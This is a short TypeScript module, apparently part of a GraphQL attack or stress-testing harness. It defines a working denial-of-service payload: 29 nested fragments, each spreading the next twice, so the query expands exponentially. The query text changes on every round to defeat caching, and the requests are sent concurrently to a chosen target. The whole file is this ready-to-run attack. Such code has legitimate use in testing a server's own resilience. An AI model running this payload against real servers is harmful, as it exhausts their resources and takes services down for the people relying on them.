/** A kilobyte of fragments that spread the next one twice, each time another text, so that nothing kept helps. */
import { flood, post, type Attack } from './attack.js';

const steps = Array.from({ length: 29 }, (_, i) => `fragment F${i} on Query { ...F${i + 1} ...F${i + 1} }`).join(' ');

export const fragments: Attack = {
  name: 'fragments that unfold without end',
  run: (target) =>
    flood(4, (round) =>
      post(
        target,
        JSON.stringify({ query: `query Q${round} { ...F0 } ${steps} fragment F29 on Query { __typename }` }),
      ),
    ),
};
